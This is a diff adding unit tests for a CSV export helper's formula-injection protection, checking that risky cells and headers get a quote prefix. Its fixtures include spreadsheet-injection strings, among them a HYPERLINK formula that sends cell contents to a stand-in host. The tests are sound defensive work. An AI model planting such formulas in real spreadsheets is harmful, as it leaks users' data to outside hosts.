@@ -121,3 +121,28 @@ describe('export helpers', () => {
     expect(uniqueColumnNames(['a', 'b', 'a', 'a'])).toEqual(['a', 'b', 'a_2', 'a_3']);
   });
 });
+
+describe('resultToCsv with formula protection (issue 11, item 12)', () => {
+  const risky = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+
+  it('prefixes a quote to every text cell a spreadsheet would run, and to header names', () => {
+    const text = resultToCsv(
+      { columns: ['=bad', 'ok'], rows: risky.map((r) => [r, 'plain']) },
+      { protectFormulas: true },
+    );
+    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+    expect(parsed[0]).toEqual(["'=bad", 'ok']);
+    expect(parsed.slice(1).map((r) => r[0])).toEqual(risky.map((r) => `'${r}`));
+    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('leaves numbers, NULL, blobs and harmless text alone', () => {
+    expect(
+      resultToCsv({ columns: ['v'], rows: [[-5], [null], ['a=b'], [new Uint8Array([1])]] }, { protectFormulas: true }),
+    ).toBe('v\r\n-5\r\n\r\na=b\r\n0x01\r\n');
+  });
+
+  it('is off unless asked for: the exact values', () => {
+    expect(csv(['v'], [['=1']])).toBe('v\r\n=1\r\n');
+  });
+});
